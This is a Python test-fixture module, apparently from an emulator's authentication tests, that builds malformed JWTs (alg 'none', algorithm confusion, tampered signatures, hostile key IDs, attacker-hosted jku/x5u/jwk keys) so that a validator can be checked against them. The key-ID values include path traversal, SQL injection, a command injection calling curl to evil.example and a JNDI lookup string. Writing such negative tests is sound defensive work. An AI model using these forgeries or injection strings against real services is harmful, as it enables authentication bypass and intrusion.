"""Wrong algorithms, signatures, key IDs, and headers that point to a key of the attacker's."""

from __future__ import annotations

import hmac
import json
import secrets

from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512, HashAlgorithm
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from servicebus_emulator.cloud.entra.bad_tokens.mint import Mint, Tokens, text

_ELSEWHERE = "https://keys.example/keys"
_P256_BYTES = 32


def headers(mint: Mint) -> Tokens:
    """Tokens whose payload is right."""
    return (
        _without_signature(mint) | _algorithms(mint) | _confused(mint) | _signatures(mint) | _kids(mint) | _keys(mint)
    )


def _without_signature(mint: Mint) -> Tokens:
    spelled = {"none": "none", "none_capitalised": "None", "none_upper": "NONE", "none_mixed": "nOnE", "empty": ""}
    tokens = {f"alg_{name}": f"{mint.unsigned(alg=alg)}." for name, alg in spelled.items()}
    return tokens | {"alg_none_with_a_signature": mint.headed(alg="none"), "alg_absent": mint.headed(alg=None)}


def _algorithms(mint: Mint) -> Tokens:
    """Genuine signatures by the published key, but by an algorithm that is not wanted, or called by no right name."""
    pss = padding.PSS(padding.MGF1(SHA256()), SHA256.digest_size)
    ps256 = mint.unsigned(alg="PS256")
    return {
        "alg_ps256": f"{ps256}.{text(mint.issuer.key.private.sign(ps256.encode(), pss, SHA256()))}",
        "alg_rs384": _rsa(mint, "RS384", SHA384()),
        "alg_rs512": _rsa(mint, "RS512", SHA512()),
        "alg_unknown": mint.headed(alg="RS257"),
        "alg_lower": mint.headed(alg="rs256"),
        "alg_number": mint.headed(alg=256),
        "alg_array": mint.headed(alg=["RS256"]),
        "alg_object": mint.headed(alg={"RS256": True}),
    }


def _rsa(mint: Mint, algorithm: str, digest: HashAlgorithm) -> str:
    signing_input = mint.unsigned(alg=algorithm)
    signature = mint.issuer.key.private.sign(signing_input.encode(), padding.PKCS1v15(), digest)
    return f"{signing_input}.{text(signature)}"


def _confused(mint: Mint) -> Tokens:
    """Signatures that only hold where the RSA key is taken for a key of another kind."""
    public = mint.issuer.key.private.public_key()
    secrets_by_form = {
        "pem": mint.issuer.key.public_pem(),
        "der": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "jwk": json.dumps(mint.issuer.key.published()).encode(),
        "nothing": b"",
    }
    hs256 = mint.unsigned(alg="HS256").encode()
    es256 = mint.unsigned(alg="ES256")
    return {
        **{
            f"alg_hs256_keyed_by_{form}": f"{hs256.decode()}.{text(hmac.digest(secret, hs256, 'sha256'))}"
            for form, secret in secrets_by_form.items()
        },
        "alg_es256": f"{es256}.{text(_ecdsa(es256.encode()))}",
        "alg_es256_all_zeros": f"{es256}.{text(bytes(2 * _P256_BYTES))}",
        "alg_es256_over_rsa": mint.headed(alg="ES256"),
        "alg_eddsa": mint.headed(alg="EdDSA"),
    }


def _ecdsa(signing_input: bytes) -> bytes:
    """By a key of its own, in the form of RFC 7518, section 3.4."""
    key = ec.generate_private_key(ec.SECP256R1())
    numbers = decode_dss_signature(key.sign(signing_input, ec.ECDSA(SHA256())))
    return b"".join(number.to_bytes(_P256_BYTES, "big") for number in numbers)


def _signatures(mint: Mint) -> Tokens:
    signed, _, signature = mint.headed().rpartition(".")
    header, payload = signed.split(".")
    other_payload = mint.claiming(roles=["Admin.All"]).split(".")[1]
    flipped = ("B" if signature[0] == "A" else "A") + signature[1:]
    return {
        "signature_stripped": f"{signed}.",
        "signature_and_its_dot_stripped": signed,
        "signature_truncated": f"{signed}.{signature[:-8]}",
        "signature_halved": f"{signed}.{signature[: len(signature) // 2]}",
        "signature_flipped": f"{signed}.{flipped}",
        "signature_longer": f"{signed}.{signature}AAAA",
        "signature_all_zeros": f"{signed}.{text(bytes(256))}",
        "signature_of_another_payload": f"{header}.{other_payload}.{signature}",
        "signature_by_another_key": mint.headed(mint.issuer.forgers_key),
        "signature_over_payload_alone": f"{signed}.{mint.signed(payload).rpartition('.')[2]}",
    }


def _kids(mint: Mint) -> Tokens:
    """The signature is the published key's; nothing but the key ID says otherwise."""
    kids = {
        "unknown": secrets.token_urlsafe(20),
        "empty": "",
        "path": "../../../../../../dev/null",
        "sql": "x' UNION SELECT 'secret' --",
        "command": "/dev/null; curl https://evil.example",
        "url": _ELSEWHERE,
        "long": "k" * 10_000,
        "case": mint.issuer.key.kid.swapcase(),
        "padded": f" {mint.issuer.key.kid}",
        "nul": f"{mint.issuer.key.kid}\0",
        "non_ascii": "ключ",
        "format": "{0.__class__} %s %(kid)s ${jndi:ldap://evil.example}",
    }
    others: Tokens = {
        "kid_absent": mint.headed(kid=None),
        "kid_number": mint.headed(kid=1),
        "kid_array": mint.headed(kid=[mint.issuer.key.kid]),
        "kid_of_another_issuers_key": mint.headed(mint.issuer.others_key, kid=mint.issuer.others_key.kid),
    }
    return {f"kid_{name}": mint.headed(kid=kid) for name, kid in kids.items()} | others


def _keys(mint: Mint) -> Tokens:
    """Signed by the attacker's key, and the header says where to find it, under the published key's ID or its own."""
    attacker = mint.issuer.forgers_key
    jwk = {name: str(value) for name, value in attacker.published().items()}
    named = jwk | {"kid": "attacker"}
    return {
        "jku": mint.headed(attacker, jku=_ELSEWHERE),
        "jku_unknown_kid": mint.headed(attacker, jku=_ELSEWHERE, kid="attacker"),
        "x5u": mint.headed(attacker, x5u=_ELSEWHERE),
        "x5c": mint.headed(attacker, x5c=[text(attacker.public_pem())]),
        "jwk": mint.headed(attacker, jwk=dict(jwk)),
        "jwk_unknown_kid": mint.headed(attacker, jwk=dict(named), kid="attacker"),
        "jwk_without_kid": mint.headed(attacker, jwk=dict(jwk), kid=None),
        "crit": mint.headed(crit=["unknown"], unknown=True),
        "crit_b64": mint.headed(crit=["b64"], b64=False),
    }
